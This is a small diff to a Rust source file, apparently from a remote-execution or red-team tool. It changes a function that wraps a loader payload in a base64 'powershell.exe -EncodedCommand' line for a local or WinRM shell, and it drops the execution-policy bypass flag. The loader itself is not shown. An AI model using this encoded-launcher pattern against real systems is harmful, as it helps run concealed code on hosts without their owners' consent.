@@ -82,7 +82,7 @@ pub fn encode_utf16le(text: &str) -> String {
 /// Windows, any default shell) or a WinRM shell.
 pub fn encoded_command() -> String {
     format!(
-        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {}",
+        "powershell.exe -NoProfile -NonInteractive -EncodedCommand {}",
         encode_utf16le(&loader())
     )
 }
